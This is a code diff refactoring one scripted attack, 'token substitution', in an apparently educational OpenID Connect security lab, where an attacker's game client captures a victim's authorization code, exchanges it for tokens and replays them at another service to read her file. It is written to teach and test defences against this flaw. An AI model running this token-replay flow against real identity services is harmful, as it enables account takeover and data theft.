@@ -1,5 +1,5 @@
 /** An access token for one application opens another. */
-import type { Attack } from '../attack.ts';
+import { type Attack, fails, type Tell, works } from '../attack.ts';
 import {
   ANGELA,
   ANGELAS_FILE,
@@ -9,6 +9,7 @@ import {
   PROVIDER,
   SERVICE,
 } from '../cast.ts';
+import type { Lab } from '../lab.ts';
 
 const GAME = {
   clientId: 'quiz-des-prenoms',
@@ -55,37 +56,7 @@ export const tokenSubstitution: Attack = {
     });
   },
   async play(lab, tell) {
-    const request = new URL(`${lab.issuer}/authorize`);
-    const redirect = `${lab.url('attacker')}/callback`;
-    request.search = new URLSearchParams({
-      client_id: GAME.clientId,
-      response_type: 'code',
-      redirect_uri: redirect,
-      scope: 'openid identite_pivot',
-      state: 'state-of-the-quiz-of-malo',
-      nonce: 'nonce-of-the-quiz-of-malo',
-      acr_values: 'eidas1',
-    }).toString();
-    await lab.victim.signIn({ url: request.href, login: ANGELA.login, via: PROVIDER });
-    tell(
-      'victim',
-      'Se connecte au jeu, qui la remercie.',
-      'Signs in to the game, which thanks her.',
-    );
-    const caught = (await lab.notebook.caught()).find(({ kind }) => kind === 'code');
-    const answer = await lab.attacker.send(`${lab.issuer}/token`, {
-      grant_type: 'authorization_code',
-      code: caught?.values.code ?? '',
-      redirect_uri: redirect,
-      client_id: GAME.clientId,
-      client_secret: GAME.clientSecret,
-    });
-    const tokens = JSON.parse(answer.text) as { access_token: string; id_token: string };
-    tell(
-      'attacker',
-      `Échange le code, comme tout service, et reçoit le jeton d’accès ${glimpse(tokens.access_token)}.`,
-      `Exchanges the code, like any service, and receives the access token ${glimpse(tokens.access_token)}.`,
-    );
+    const tokens = await tokensOfTheGame(lab, tell);
     const page = await lab.attacker.send(`${lab.url(SERVICE)}/phone`, {
       access_token: tokens.access_token,
       id_token: tokens.id_token,
@@ -97,20 +68,48 @@ export const tokenSubstitution: Attack = {
     );
     const account = await claimFile(lab, lab.attacker);
     if (account.shown('file-number') === ANGELAS_FILE)
-      return {
-        succeeded: true,
-        verdict: {
-          fr: `Malo lit le dossier ${ANGELAS_FILE}, celui d’Angela.`,
-          en: `Malo reads file ${ANGELAS_FILE}, Angela’s.`,
-        },
-      };
-    return {
-      succeeded: false,
-      refusal: page.refusal,
-      verdict: {
-        fr: 'Le service refuse : ce jeton d’identité est pour le jeu, pas pour lui.',
-        en: 'The service refuses: this ID token is for the game, not for it.',
-      },
-    };
+      return works(
+        `Malo lit le dossier ${ANGELAS_FILE}, celui d’Angela.`,
+        `Malo reads file ${ANGELAS_FILE}, Angela’s.`,
+      );
+    return fails(
+      'Le service refuse : ce jeton d’identité est pour le jeu, pas pour lui.',
+      'The service refuses: this ID token is for the game, not for it.',
+      page.refusal,
+    );
   },
 };
+
+type Tokens = { access_token: string; id_token: string };
+
+/** Angela signs in to the game, and the game asks for its tokens: all in order so far. */
+async function tokensOfTheGame(lab: Lab, tell: Tell): Promise<Tokens> {
+  const request = new URL(`${lab.issuer}/authorize`);
+  const redirect = `${lab.url('attacker')}/callback`;
+  request.search = new URLSearchParams({
+    client_id: GAME.clientId,
+    response_type: 'code',
+    redirect_uri: redirect,
+    scope: 'openid identite_pivot',
+    state: 'state-of-the-quiz-of-malo',
+    nonce: 'nonce-of-the-quiz-of-malo',
+    acr_values: 'eidas1',
+  }).toString();
+  await lab.victim.signIn({ url: request.href, login: ANGELA.login, via: PROVIDER });
+  tell('victim', 'Se connecte au jeu, qui la remercie.', 'Signs in to the game, which thanks her.');
+  const caught = (await lab.notebook.caught()).find(({ kind }) => kind === 'code');
+  const answer = await lab.attacker.send(`${lab.issuer}/token`, {
+    grant_type: 'authorization_code',
+    code: caught?.values.code ?? '',
+    redirect_uri: redirect,
+    client_id: GAME.clientId,
+    client_secret: GAME.clientSecret,
+  });
+  const tokens = JSON.parse(answer.text) as Tokens;
+  tell(
+    'attacker',
+    `Échange le code, comme tout service, et reçoit le jeton d’accès ${glimpse(tokens.access_token)}`,
+    `Exchanges the code, like any service, and receives the access token ${glimpse(tokens.access_token)}`,
+  );
+  return tokens;
+}
